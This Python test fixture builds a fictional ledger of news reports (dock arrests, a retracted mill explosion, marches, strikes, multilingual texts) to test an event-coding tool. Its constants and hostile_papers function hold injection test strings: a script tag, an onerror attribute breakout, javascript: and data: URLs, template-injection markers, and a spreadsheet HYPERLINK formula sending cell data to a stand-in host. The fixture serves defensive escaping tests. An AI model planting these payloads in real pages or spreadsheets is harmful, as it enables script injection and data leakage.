"""A made-up ledger that is rich and hostile: rival figures, reprints, corrections, plans, many scripts, and markup where names go.

Reports are coded and linked by hand, so that each thing that a page must show is there for certain, whatever the reader and the
linker come to. `world_at` gives a copy to be judged in. Happenings have names by which tests find them: `event_called`.
"""

from __future__ import annotations

import hashlib
import shutil
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, time, timedelta
from functools import cache
from pathlib import Path
from tempfile import mkdtemp

from dateline.ledger.derived import LinkRow, ReprintRow
from dateline.ledger.judged import Judged
from dateline.ledger.judgements import Log
from dateline.ledger.store import Ledger, open_ledger
from dateline.records import (
    READ,
    About,
    Actor,
    Block,
    BlockKind,
    Claim,
    Coder,
    Coding,
    Count,
    CountedParty,
    Document,
    EditorsNote,
    EventMention,
    EventPlace,
    EventTime,
    Exactness,
    How,
    Judge,
    Judgement,
    JudgementKind,
    NoteKind,
    OffsetMap,
    Origin,
    Participant,
    PartyRole,
    Place,
    PlaceKind,
    Precision,
    Problem,
    PublicationDate,
    Quotation,
    QuoteKind,
    Report,
    Run,
    Span,
    Status,
    StatusValue,
    Tallied,
    Teller,
)
from dateline.runs.codes import codes_of

CODER = Coder("dateline 0.1.0", "by hand", "world")
LINKER = "by hand"
MARKER = "hacked"
"""What hostile markup would set on `window`, if it ran."""
HOSTILE = f"<script>window.{MARKER}=1</script>"
HOSTILE_ATTRIBUTE = f'"><img src=x onerror="window.{MARKER}=1">'
HOSTILE_ADDRESS = f"javascript:window.{MARKER}=1"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'
LONG_WORD = "Donau" + "dampfschifffahrts" * 120 + "gesellschaft"
FAMILY = "👩‍👩‍👧‍👦"
ZOE = "Zoe\u0308"
"""Zoë with the two dots as a mark of their own."""
DAY = date(2024, 3, 4)

# ---------------------------------------------------------------- who and where

POLICE = Actor("Ashport police", "NZL", "COP", is_group=True)
DOCKERS = Actor("dockers", "NZL", "LAB", is_group=True)
UNION = Actor("Dockers' Union of Ashport", "NZL", "LAB", id="dockers-union")
LAWYERS = Actor("Lawyers for the Port", "NZL", "SOC")
TEACHERS = Actor("Teachers' Alliance", "PRT", "EDU", id="teachers-alliance", is_group=True)
NURSES = Actor("Nurses' Chamber", "KEN", "MED", id="nurses-chamber", is_group=True)
MINISTRY = Actor("ministry of health", "KEN", "GOV")
FARMERS = Actor("farmers", "IRL", "AGR", is_group=True)
RESIDENTS = Actor("residents", "FJI", "CVL", is_group=True)
GOVERNMENT = Actor("government", "TCD", "GOV")
MAYOR = Actor(f"Mayor {ZOE} {FAMILY}", "CHE", "GOV")
SHURTA = Actor("الشرطة", "JOR", "COP", is_group=True)
SAIDA = Actor("سعيدة النوري", "JOR", "JRN", role="مراسلة")
NOAM = Actor("נועם בן־ארי", "ISR", "CVL")
SCRIPT = Actor(HOSTILE, "NLD", "CVL")
LINKING = Actor(FORMULA, "NLD", "BUS")
PATIENT = Actor(LONG_WORD, "AUT", "BUS")

ASHPORT = Place("Ashport", PlaceKind.CITY, "NZL", None, "Otago", (-45.81, 170.62))
FENNICK = Place("Fennick", PlaceKind.CITY, "NZL", None, "Otago", (-45.10, 170.97))
GATE = Place("Gate Four", PlaceKind.FACILITY, "NZL", None, "Otago", None, within="Ashport")
LOWEN = Place("Lowen", PlaceKind.CITY, "PRT", None, "Beira", (40.2, -8.4))
MILL = Place("Oakmill", PlaceKind.CITY, "IRL", None, "Munster", (52.3, -8.7))
TOWNS = tuple(
    Place(name, PlaceKind.CITY, "KEN", None, "Rift", point)
    for name, point in (("Nakora", (-0.3, 36.1)), ("Eldama", (0.5, 35.3)), ("Kitura", (1.0, 35.0)))
)
CHAD = Place("Chad", PlaceKind.COUNTRY, "TCD", 2434508)
WEST = Place("Waini", PlaceKind.CITY, "FJI", None, "Northern", (-16.8, 179.95))
EAST = Place("Taveta", PlaceKind.CITY, "FJI", None, "Northern", (-16.9, -179.9))
MARSA = Place("مرسى النور", PlaceKind.CITY, "JOR", None, "العقبة", (29.5, 35.0))
DISTRICT = Place("Northern District", PlaceKind.ADMIN1, "ISR", None, "Northern District", (32.8, 35.3))
BREAKOUT = Place("</script><b>Town</b>", PlaceKind.CITY, "NLD", None, "Zee & Land", (52.1, 4.3))

# ---------------------------------------------------------------- what reports say


@dataclass(frozen=True)
class Figure:
    """How many, as its words give it. `what` is counted; `high` None is open."""

    words: str
    what: str
    low: float
    high: float | None
    exactness: Exactness = Exactness.EXACT
    tallied: Tallied = Tallied.UNSAID
    is_part: bool = False
    unit: str = "people"


@dataclass(frozen=True)
class Said:
    """A claim of a report. All words are looked for in the evidence first and then in the whole text; they must stand there.

    `happening` names what it tells of: claims of one name are one event. `when` is (words, first, last), either day empty if open.
    """

    happening: str
    evidence: str
    trigger: str
    kind: str
    actors: tuple[tuple[str, Actor], ...] = ()
    recipients: tuple[tuple[str, Actor], ...] = ()
    when: tuple[str, date | None, date | None] | None = None
    where: tuple[str, Place] | None = None
    figures: tuple[Figure, ...] = ()
    status: tuple[StatusValue, str] | None = None
    by: tuple[str, str, Actor] | None = None
    confidence: float = 0.75
    precision: Precision = Precision.DAY


@dataclass(frozen=True)
class Paper:
    """A report with its coding. `note` is what its editors say of it: the kind, the words, and within them what was wrong and is.

    `text_of` names the paper whose text it prints again; `known` is when the ledger was told (None: at noon of its day).
    """

    name: str
    publisher: str | None
    day: date | None
    title: str
    text: str
    says: tuple[Said, ...] = ()
    address: str | None = None
    note: tuple[NoteKind, str, str, str] | None = None
    text_of: str | None = None
    known: datetime | None = None
    fault: Problem | None = field(default=None)


def days_later(days: int) -> date:
    return DAY + timedelta(days=days)


def on(words: str, day: date) -> tuple[str, date, date]:
    return (words, day, day)


BLOCKADE = (
    "ASHPORT - Police led away at least 40 dockers from Gate Four in Ashport on Monday, police said. "
    "The dockers had blocked the road since dawn over a change of shifts. Nobody was hurt. "
    "Ships lay outside the harbour until the evening, and two of them turned away to Fennick."
)


def blockade(words: str, low: float, high: float | None, exactness: Exactness = Exactness.AT_LEAST, **given: object) -> Said:
    """The arrests at the gate, with the figure of one report."""
    return Said(
        "arrests at the gate",
        evidence=f"Police led away {words} from Gate Four in Ashport on Monday",
        trigger="led away",
        kind="COERCE arrest",
        actors=(("Police", POLICE),),
        recipients=(("dockers", DOCKERS),),
        when=on("Monday", DAY),
        where=("Gate Four", GATE),
        figures=(Figure(words, "detained", low, high, exactness),),
        by=("police", "said", POLICE),
        **given,  # type: ignore[arg-type]
    )


def dock_papers() -> list[Paper]:
    """One story of an agency with two reprints and a correction, and two who count for themselves."""
    wire = blockade("at least 40 dockers", 40, None, confidence=0.93)
    corrected = BLOCKADE.replace("at least 40 dockers", "14 dockers")
    note = "Corrects the number of dockers in the first paragraph to 14, not 40."
    return [
        Paper("wire.txt", "Harbour Wire", DAY, "Dockers led away from gate", BLOCKADE, (wire,), "https://wire.example/gate"),
        Paper("echo.txt", "Port Echo", DAY, "Dockers led away", BLOCKADE + " Rain is expected.", (wire,), text_of="wire.txt"),
        Paper(
            "hostile-reprint.txt", HOSTILE_ATTRIBUTE, days_later(1), HOSTILE, BLOCKADE, (wire,), HOSTILE_ADDRESS, text_of="wire.txt"
        ),
        Paper(
            "union.txt",
            "Union Voice",
            days_later(1),
            "They took us one by one",
            "Between 120 and 130 of our people were detained at Gate Four on Monday, the Dockers' Union of Ashport said, 12 of "
            "them apprentices. One man was injured when a barrier fell on him.",
            (
                Said(
                    "arrests at the gate",
                    "Between 120 and 130 of our people were detained at Gate Four on Monday, the Dockers' Union of Ashport said, "
                    "12 of them apprentices",
                    "detained",
                    "COERCE arrest",
                    recipients=(("our people", UNION),),
                    when=on("Monday", DAY),
                    where=("Gate Four", GATE),
                    figures=(
                        Figure("Between 120 and 130", "detained", 120, 130, Exactness.RANGE),
                        Figure("12 of them", "detained", 12, 12, is_part=True),
                    ),
                    by=("the Dockers' Union of Ashport", "said", UNION),
                    confidence=0.81,
                ),
                Said(
                    "the barrier",
                    "One man was injured when a barrier fell on him",
                    "injured",
                    "ASSAULT",
                    figures=(Figure("One man", "injured", 1, 1),),
                    confidence=0.34,
                ),
            ),
            "https://union.example/one-by-one?a=1&b=2",
        ),
        Paper(
            "lawyers.txt",
            "The Fennick Ledger",
            days_later(2),
            "More than 210 held, lawyers say",
            "More than 210 people have so far been detained over the blockade in Ashport, Lawyers for the Port wrote on Wednesday.",
            (
                Said(
                    "arrests at the gate",
                    "More than 210 people have so far been detained over the blockade in Ashport, Lawyers for the Port wrote",
                    "detained",
                    "COERCE arrest",
                    recipients=(("people", DOCKERS),),
                    where=("Ashport", ASHPORT),
                    figures=(Figure("More than 210", "detained", 211, None, Exactness.MORE_THAN, Tallied.RUNNING_TOTAL),),
                    by=("Lawyers for the Port", "wrote", LAWYERS),
                    confidence=0.88,
                ),
            ),
        ),
        Paper(
            "wire-corrected.txt",
            "Harbour Wire",
            days_later(3),
            "CORRECTED: Dockers led away from gate",
            f"{note}\n\n{corrected}",
            (blockade("14 dockers", 14, 14, Exactness.EXACT, confidence=0.95),),
            "https://wire.example/gate",
            (NoteKind.CORRECTION, note, "40", "14"),
            text_of="wire.txt",
        ),
    ]


def mill_papers() -> list[Paper]:
    """An explosion that was told, taken back, and denied."""
    text = "An explosion at the Oakmill grain store killed three farmers on Tuesday. The cause was not known."
    killed = Said(
        "the mill",
        "An explosion at the Oakmill grain store killed three farmers on Tuesday",
        "explosion",
        "ASSAULT explosives",
        recipients=(("farmers", FARMERS),),
        when=on("Tuesday", days_later(1)),
        where=("Oakmill", MILL),
        figures=(Figure("three farmers", "killed", 3, 3),),
        confidence=0.71,
    )
    note = "The Valley Post takes back this report: there was no explosion."
    return [
        Paper("mill.txt", "The Valley Post", days_later(2), "Three killed at mill", text, (killed,), "https://valley.example/mill"),
        Paper(
            "mill-retracted.txt",
            "The Valley Post",
            days_later(4),
            "Retraction: the mill",
            f"{note}\n\n{text}",
            (killed,),
            "https://valley.example/mill",
            (NoteKind.RETRACTION, note, "", ""),
            text_of="mill.txt",
        ),
        Paper(
            "mill-denied.txt",
            "Munster Bulletin",
            days_later(3),
            "No explosion, says owner",
            "There was no explosion at Oakmill, the owner of the grain store said.",
            (
                Said(
                    "the mill",
                    "There was no explosion at Oakmill, the owner of the grain store said",
                    "explosion",
                    "ASSAULT explosives",
                    where=("Oakmill", MILL),
                    status=(StatusValue.DENIED, "no"),
                    by=("the owner of the grain store", "said", Actor("owner of the grain store", "IRL", "BUS")),
                    confidence=0.66,
                ),
            ),
        ),
    ]


def march_papers() -> list[Paper]:
    """A march that was announced and then told, and another announced of which nobody tells."""
    return [
        Paper(
            "march-planned.txt",
            "Correio de Lowen",
            days_later(0),
            "Teachers to march on Friday",
            "The Teachers' Alliance will march in Lowen on Friday. It also plans a vigil in Lowen on 20 March.",
            (
                Said(
                    "the march",
                    "The Teachers' Alliance will march in Lowen on Friday",
                    "march",
                    "PROTEST demo",
                    actors=(("The Teachers' Alliance", TEACHERS),),
                    when=on("Friday", days_later(4)),
                    where=("Lowen", LOWEN),
                    status=(StatusValue.PLANNED, "will"),
                ),
                Said(
                    "the vigil",
                    "It also plans a vigil in Lowen on 20 March",
                    "vigil",
                    "PROTEST demo",
                    actors=(("It", TEACHERS),),
                    when=on("20 March", date(2024, 3, 20)),
                    where=("Lowen", LOWEN),
                    status=(StatusValue.PLANNED, "plans"),
                ),
            ),
        ),
        Paper(
            "march-held.txt",
            "Beira Daily",
            days_later(5),
            "Thousands march in Lowen",
            "Some 4,000 members of the Teachers' Alliance marched through Lowen on Friday. Organisers spoke of almost 7,000.",
            (
                Said(
                    "the march",
                    "Some 4,000 members of the Teachers' Alliance marched through Lowen on Friday",
                    "marched",
                    "PROTEST demo",
                    actors=(("members of the Teachers' Alliance", TEACHERS),),
                    when=on("Friday", days_later(4)),
                    where=("Lowen", LOWEN),
                    figures=(Figure("Some 4,000 members", "participants", 3500, 4500, Exactness.ABOUT),),
                    confidence=0.9,
                ),
                Said(
                    "the march",
                    "Organisers spoke of almost 7,000",
                    "spoke of",
                    "PROTEST demo",
                    figures=(Figure("almost 7,000", "participants", 6300, 7000, Exactness.ALMOST),),
                    by=("Organisers", "spoke of", TEACHERS),
                    confidence=0.52,
                ),
            ),
        ),
    ]


def strike_papers() -> list[Paper]:
    """Three days of one strike in three towns: an episode."""
    return [
        Paper(
            f"nurses-{place.name}.txt",
            "Rift Gazette",
            days_later(10 + n),
            f"Nurses stay away in {place.name}",
            f"Nurses of the Nurses' Chamber stopped work in {place.name} on {words}. "
            "The ministry of health called the strike unlawful.",
            (
                Said(
                    f"the strike in {place.name}",
                    f"Nurses of the Nurses' Chamber stopped work in {place.name} on {words}",
                    "stopped work",
                    "PROTEST strike",
                    actors=(("the Nurses' Chamber", NURSES),),
                    when=on(words, days_later(9 + n)),
                    where=(place.name, place),
                    confidence=0.8 - 0.2 * n,
                ),
                Said(
                    f"the ministry about {place.name}",
                    "The ministry of health called the strike unlawful",
                    "called",
                    "ACCUSE disapprove",
                    actors=(("The ministry of health", MINISTRY),),
                    recipients=(("the strike", NURSES),),
                    confidence=0.45,
                ),
            ),
        )
        for n, (place, words) in enumerate(zip(TOWNS, ("Wednesday", "Thursday", "Friday"), strict=True))
    ]


def place_papers() -> list[Paper]:
    """One rally of which two papers say that it was in two towns; a country's curfew; both sides of the date line; and no day."""
    return [
        *(
            Paper(
                f"rally-{place.name}.txt",
                f"{place.name} Observer",
                days_later(7),
                f"Rally in {place.name}",
                f"Some 300 farmers rallied in {place.name} on Sunday against the new weir.",
                (
                    Said(
                        "the rally",
                        f"Some 300 farmers rallied in {place.name} on Sunday",
                        "rallied",
                        "PROTEST demo",
                        actors=(("farmers", replace(FARMERS, country="NZL")),),
                        when=on("Sunday", days_later(6)),
                        where=(place.name, place),
                        figures=(Figure("Some 300 farmers", "participants", 270, 330, Exactness.ABOUT),),
                    ),
                ),
            )
            for place in (ASHPORT, FENNICK)
        ),
        Paper(
            "curfew.txt",
            "Sahel Morning",
            days_later(12),
            "Curfew in Chad",
            "The government ordered people in Chad to stay in at night from the middle of March until further notice.",
            (
                Said(
                    "the curfew",
                    "The government ordered people in Chad to stay in at night from the middle of March until further notice",
                    "ordered",
                    "COERCE curfew",
                    actors=(("The government", GOVERNMENT),),
                    when=("from the middle of March until further notice", days_later(10), None),
                    where=("Chad", CHAD),
                    precision=Precision.VAGUE,
                ),
            ),
        ),
        *(
            Paper(
                f"ferry-{place.name}.txt",
                "Northern Tide",
                days_later(14),
                f"Ferry blocked in {place.name}",
                f"Residents of {place.name} blocked the ferry last month.",
                (
                    Said(
                        f"the ferry at {place.name}",
                        f"Residents of {place.name} blocked the ferry last month",
                        "blocked",
                        "PROTEST obstruct",
                        actors=(("Residents", RESIDENTS),),
                        when=("last month", date(2024, 2, 1), date(2024, 2, 29)),
                        where=(place.name, place),
                        precision=Precision.MONTH,
                    ),
                ),
            )
            for place in (WEST, EAST)
        ),
        Paper(
            "undated.txt",
            None,
            None,
            "A note found in a drawer",
            "Somebody was beaten behind the old station, a neighbour told me.",
            (Said("behind the station", "Somebody was beaten behind the old station", "beaten", "ASSAULT beat", confidence=0.29),),
        ),
    ]


def script_papers() -> list[Paper]:
    """Arabic and Hebrew from right to left, and letters that are more than one code point."""
    arrest = "arrest of a reporter"
    return [
        Paper(
            "arabic.txt",
            "صوت المرسى",
            days_later(8),
            "الشرطة توقف مراسلة في مرسى النور",
            "أوقفت الشرطة المراسلة سعيدة النوري في مرسى النور يوم الاثنين، و3 من زملائها. وقال شهود إن الشارع كان هادئا.",
            (
                Said(
                    arrest,
                    "أوقفت الشرطة المراسلة سعيدة النوري في مرسى النور يوم الاثنين، و3 من زملائها",
                    "أوقفت",
                    "COERCE arrest",
                    actors=(("الشرطة", SHURTA),),
                    recipients=(("سعيدة النوري", SAIDA),),
                    when=on("يوم الاثنين", days_later(7)),
                    where=("مرسى النور", MARSA),
                    figures=(Figure("3 من زملائها", "detained", 3, 3),),
                ),
            ),
            "https://marsa.example/خبر",
        ),
        Paper(
            "hebrew.txt",
            "קול הצפון",
            days_later(8),
            "מאות צעדו בצפון",
            "מאות תושבים צעדו במחוז הצפון ביום ראשון, אמר נועם בן־ארי (32) – “זה רק ההתחלה”.",
            (
                Said(
                    "the march in the north",
                    "מאות תושבים צעדו במחוז הצפון ביום ראשון",
                    "צעדו",
                    "PROTEST demo",
                    actors=(("תושבים", Actor("תושבים", "ISR", "CVL", is_group=True)),),
                    when=on("ביום ראשון", days_later(6)),
                    where=("במחוז הצפון", DISTRICT),
                    figures=(Figure("מאות תושבים", "participants", 200, None, Exactness.VAGUE),),
                    by=("נועם בן־ארי", "אמר", NOAM),
                ),
            ),
        ),
        Paper(
            "marks.txt",
            "Zürcher Blatt 📰",
            days_later(9),
            f"{FAMILY} {ZOE} 🇨🇭",
            f"{FAMILY}🇨🇭 The mayor, {ZOE}, met cafe\u0301 owners 👍🏽 on 12\u00a0March 🎉 in the town hall.",
            (
                Said(
                    "the mayor",
                    f"The mayor, {ZOE}, met cafe\u0301 owners 👍🏽 on 12\u00a0March",
                    "met",
                    "CONSULT",
                    actors=((f"The mayor, {ZOE}", MAYOR),),
                    recipients=(("cafe\u0301 owners", Actor("cafe\u0301 owners 👍🏽", "CHE", "BUS", is_group=True)),),
                    when=on("12\u00a0March", date(2024, 3, 12)),
                ),
            ),
        ),
    ]


def hostile_papers() -> list[Paper]:
    """Markup, formulas, addresses that are scripts, and words without end, wherever a report can put them."""
    return [
        Paper(
            "<b>hostile</b>.txt",
            FORMULA,
            days_later(11),
            f"{HOSTILE} & {HOSTILE_ATTRIBUTE}",
            f"{HOSTILE} accused {FORMULA} of fraud in </script><b>Town</b> on 14 March. {{{{7*7}}}} ${{7*7}} <!-- ]]> &lt;b&gt;",
            (
                Said(
                    "hostile markup",
                    f"{HOSTILE} accused {FORMULA} of fraud in </script><b>Town</b> on 14 March",
                    "accused",
                    "ACCUSE allege",
                    actors=((HOSTILE, SCRIPT),),
                    recipients=((FORMULA, LINKING),),
                    when=on("14 March", date(2024, 3, 14)),
                    where=("</script><b>Town</b>", BREAKOUT),
                    status=(StatusValue.ALLEGED, "accused"),
                    by=(HOSTILE, "accused", SCRIPT),
                ),
            ),
            HOSTILE_ADDRESS,
        ),
        Paper(
            "long-word.txt",
            LONG_WORD,
            days_later(11),
            LONG_WORD,
            f"{LONG_WORD} rejected the offer\u202e on 14 March.\u0000\u0007",
            (
                Said(
                    "a long word",
                    f"{LONG_WORD} rejected the offer",
                    "rejected",
                    "REJECT",
                    actors=((LONG_WORD, PATIENT),),
                    when=on("14 March", date(2024, 3, 14)),
                    confidence=0.12,
                ),
            ),
            "data:text/html,<script>alert(1)</script>",
        ),
        Paper("nothing.txt", "Harbour Wire", days_later(1), "The tides of March", "High water was at six. It will be at seven."),
        Paper(
            "unread.pdf",
            "Harbour Wire",
            days_later(1),
            "",
            "%PDF",
            fault=Problem(
                "reading", "not-text", f"these bytes are no text: {HOSTILE}. Hand in a web page", "unread.pdf", is_fatal=True
            ),
        ),
    ]


LONG = 60_000
"""Characters of the long report."""
ROLLS = 60
"""Claims of the long report: with seven spans each they are more than 400."""


def long_paper() -> Paper:
    """60,000 characters with more than 400 spans, and emoji before the first, so that offsets in other units go wrong."""
    says, paragraphs = [], [f"{FAMILY} The roll of that night, town by town."]
    for n in range(ROLLS):
        evidence = f"Guards in town no. {n} seized {n + 2} strikers near mill {n} on the night of 9 March, a clerk no. {n} said"
        filler = f" It was a quiet street, and lamp {n} was out." * 19
        paragraphs.append(f"{evidence}.{filler}")
        place = Place(f"town no. {n}", PlaceKind.CITY, "ITA", None, f"Province {n % 7}", (40 + n / 20, 9 + n / 15))
        says.append(
            Said(
                "the roll",
                evidence,
                "seized",
                "COERCE arrest",
                actors=((f"Guards in town no. {n}", Actor(f"Guards in town no. {n}", "ITA", "COP", is_group=True)),),
                recipients=((f"{n + 2} strikers", Actor("strikers", "ITA", "LAB", is_group=True)),),
                when=on("the night of 9 March", date(2024, 3, 9)),
                where=(f"town no. {n}", place),
                figures=(Figure(f"{n + 2} strikers", "detained", n + 2, n + 2),),
                by=(f"a clerk no. {n}", "said", Actor(f"clerk no. {n}", "ITA", "GOV")),
                confidence=0.6,
            )
        )
    text = "\n\n".join(paragraphs)
    text += "\n\n" + "Nothing more was heard. " * ((LONG - len(text)) // 24 + 1)
    return Paper("roll.txt", "Il Registro", days_later(13), "The roll of that night", text, tuple(says))


def papers() -> tuple[Paper, ...]:
    """All reports of the world, in the order in which they are entered."""
    return (
        *dock_papers(), *mill_papers(), *march_papers(), *strike_papers(), *place_papers(), *script_papers(), *hostile_papers(),
        long_paper(),
    )  # fmt: skip


# ---------------------------------------------------------------- from papers to a ledger


def spot(text: str, words: str, inside: Span | None = None) -> Span:
    """Where words stand: inside a span if they do, or else where they stand first in the text."""
    found = text.find(words, inside.start, inside.end) if inside else -1
    start = found if found >= 0 else text.index(words)
    return Span(start, start + len(words))


def identity(*parts: str) -> str:
    return hashlib.sha256("\0".join(parts).encode()).hexdigest()[:16]


def report_of(paper: Paper) -> Report:
    return Report(
        paper.name, paper.text.encode(), "text/plain", paper.address, _known(paper), paper.publisher, paper.day, paper.title or None
    )


def coding_of(paper: Paper) -> Coding:
    """The paper as the reader would give it."""
    if paper.fault is not None:
        return Coding(paper.name, None, problems=(paper.fault,))
    document = _document(paper)
    first: dict[str, str] = {}
    claims: list[Claim] = []
    for n, said in enumerate(paper.says):
        id = identity(document.id, str(n))
        claims.append(Claim(id, document.id, _mention(paper, said), CODER, same_as=first.get(said.happening)))
        first.setdefault(said.happening, id)
    quotations = tuple(_quotation(paper, said) for said in paper.says if said.by)
    problems = tuple(
        Problem("events", "no-place", f"no place for {claim.event.trigger.of(paper.text)}", paper.name, claim.event.trigger)
        for claim in claims
        if claim.event.place is None
    )
    return Coding(paper.name, document, tuple(claims), quotations, problems, relevance=0.9 if claims else 0.04)


def _known(paper: Paper) -> datetime:
    return paper.known or datetime.combine(paper.day or days_later(15), time(12), UTC)


def _document(paper: Paper) -> Document:
    text, blocks, start = paper.text, [], 0
    for part in text.split("\n\n"):
        kind = BlockKind.FURNITURE if paper.note and part == paper.note[1] else BlockKind.BODY
        blocks.append(Block(Span(start, start + len(part)), kind))
        start += len(part) + 2
    notes: tuple[EditorsNote, ...] = ()
    if paper.note is not None:
        kind_of_note, words, earlier, now = paper.note
        note = spot(text, words)
        within = [spot(text, word, note) if word else None for word in (earlier, now)]
        notes = (EditorsNote(kind_of_note, note, spot(text, words.split()[0], note), None, *within),)
    size = len(text.encode())
    return Document(
        id=identity(paper.address or paper.publisher or "", paper.text, paper.name),
        name=paper.name,
        raw_sha256=hashlib.sha256(text.encode()).hexdigest(),
        text=text,
        blocks=tuple(blocks),
        offsets=OffsetMap((Run(0, len(text), 0, size),)),
        title=paper.title,
        publisher=paper.publisher,
        publisher_origin=Origin(How.GIVEN) if paper.publisher else None,
        published=PublicationDate(paper.day, Origin(How.GIVEN)) if paper.day else None,
        address=paper.address,
        notes=notes,
    )


def _mention(paper: Paper, said: Said) -> EventMention:
    text = paper.text
    evidence = spot(text, said.evidence)

    def party(given: tuple[str, Actor]) -> Participant:
        return Participant(given[1], spot(text, given[0], evidence), READ)

    when = said.when
    day = (
        EventTime(when[1], when[2], said.precision, Origin(How.INFERRED, "weekday"), spot(text, when[0], evidence))
        if when
        else None
    )
    where = EventPlace(said.where[1], READ, spot(text, said.where[0], evidence)) if said.where else None
    status = Status(said.status[0], spot(text, said.status[1], evidence)) if said.status else Status(StatusValue.ASSERTED)
    voice = Teller(Actor(paper.publisher or "an unnamed paper", None, "JRN"), None, None, QuoteKind.INDIRECT)
    teller = (
        [Teller(said.by[2], spot(text, said.by[0], evidence), spot(text, said.by[1], evidence), QuoteKind.INDIRECT)]
        if said.by
        else []
    )
    kind, _, mode = said.kind.partition(" ")
    return EventMention(
        type=kind,
        mode=mode or None,
        contexts=(),
        trigger=spot(text, said.trigger, evidence),
        evidence=evidence,
        actors=tuple(map(party, said.actors)),
        recipients=tuple(map(party, said.recipients)),
        time=day,
        place=where,
        counts=tuple(_count(text, figure, evidence, said) for figure in said.figures),
        status=status,
        attribution=(voice, *teller),
        rule="by hand",
        confidence=said.confidence,
        field_confidence=(("type", said.confidence), ("day", 0.7), ("place", 0.65)),
        confidence_parts=(("the words of the entry", 0.8), ("a place is told", 0.3), ("no day is told", -0.2)),
    )


def _count(text: str, figure: Figure, evidence: Span, said: Said) -> Count:
    role = PartyRole.ACTOR if figure.what == "participants" else PartyRole.RECIPIENT
    parties = said.actors if role is PartyRole.ACTOR else said.recipients
    return Count(
        figure.what, spot(text, figure.words, evidence), figure.low, figure.high, figure.exactness, figure.unit, figure.tallied,
        figure.is_part, party=CountedParty(role, 0) if parties else None,
    )  # fmt: skip


def _quotation(paper: Paper, said: Said) -> Quotation:
    assert said.by is not None
    evidence = spot(paper.text, said.evidence)
    source, cue = (spot(paper.text, words, evidence) for words in said.by[:2])
    return Quotation(QuoteKind.INDIRECT, (evidence,), source, cue, said.by[2])


def link_rows(papers: Sequence[Paper]) -> tuple[list[LinkRow], list[ReprintRow], dict[str, str]]:
    """What a linker would enter: claims of one happening are one event, and those of one text one witness. The last is the event of
    each happening, by its name."""
    codings = {paper.name: coding_of(paper) for paper in papers}
    events: dict[str, str] = {}
    witnesses: dict[tuple[str, str], str] = {}
    links, reprints = [], []
    for paper in papers:
        document = codings[paper.name].document
        if document is None:
            continue
        text = paper.text_of or paper.name
        original = codings[text].document
        assert original is not None
        reprints.append(ReprintRow(document.id, original.id, False))
        for said, claim in zip(paper.says, codings[paper.name].claims, strict=True):
            event = events.setdefault(said.happening, claim.id)
            witness = witnesses.setdefault((said.happening, text), claim.id)
            links.append(LinkRow(claim.id, event, witness, 0.83, LINKER))
    return links, reprints, events


def fill(ledger: Ledger) -> None:
    """Enters the world: each report when it was printed, and its links with it, so that what was known on any day can be asked."""
    told = sorted(papers(), key=_known)
    entered: list[Paper] = []
    for moment in dict.fromkeys(map(_known, told)):
        batch = [paper for paper in told if _known(paper) == moment]
        ledger.add([coding_of(p) for p in batch], [report_of(p) for p in batch], coder=CODER, known_at=moment)
        entered += batch
        links, reprints, _ = link_rows(entered)
        ledger.add_rows("reprints", reprints, by=LINKER, known_at=moment + timedelta(minutes=1))
        ledger.add_rows("links", links, by=LINKER, known_at=moment + timedelta(minutes=2))


@cache
def _world() -> Path:
    folder = Path(mkdtemp(prefix="dateline-world-")) / "ledger"
    fill(open_ledger(folder))
    return folder


def world_at(folder: Path) -> Path:
    """A copy of the world, to be judged and changed at will."""
    return Path(shutil.copytree(_world(), folder))


ACCEPTED, REJECTED, RETRACTED = JudgementKind.ACCEPTED, JudgementKind.REJECTED, JudgementKind.RETRACTED
JUDGED = datetime(2024, 3, 25, 9, tzinfo=UTC)


def judged_world_at(folder: Path) -> Path:
    """A copy of the world that people have judged, with hostile names and reasons; one judgement is undone."""
    ledger = open_ledger(world_at(folder), create=False)
    log, ada, other = Log(ledger.path), Judge("Ada"), Judge(HOSTILE)
    event = {
        name: event_called(name) for name in ("arrests at the gate", "the barrier", "the march", "the vigil", "hostile markup")
    }
    by_hand: tuple[Callable[[Judged, datetime], Judgement], ...] = (
        lambda at, when: at.verdicts(ACCEPTED, [event["arrests at the gate"]], About.EVENT, ada, when, "read all six")[0],
        lambda at, when: at.verdicts(REJECTED, [event["the barrier"]], About.CLAIM, other, when, HOSTILE_ATTRIBUTE)[0],
        lambda at, when: at.correction(
            event["the march"], "day", "2024-03-08", codes_of(at, "day"), About.EVENT, ada, when, "it says Friday"
        ),
        lambda at, when: at.merger([event["the march"], event["the vigil"]], ada, when, HOSTILE),
        lambda at, when: at.undoing(["4"], other, when, FORMULA),
        lambda at, when: at.verdicts(RETRACTED, [event["hostile markup"]], About.EVENT, other, when, LONG_WORD)[0],
    )
    for minutes, draft in enumerate(by_hand):
        log.append([draft(Judged(ledger, log), JUDGED + timedelta(minutes=minutes))])
    return ledger.path


@cache
def _happenings() -> dict[str, str]:
    return link_rows(sorted(papers(), key=_known))[2]


def event_called(happening: str) -> str:
    """The id of an event of the world: "arrests at the gate", "the mill", "the march", "the rally", "hostile markup", …"""
    return _happenings()[happening]


def document_called(name: str) -> str:
    """The id of the document of a report: "wire.txt", "arabic.txt", "roll.txt", …"""
    document = next(coding_of(paper).document for paper in papers() if paper.name == name)
    assert document is not None
    return document.id
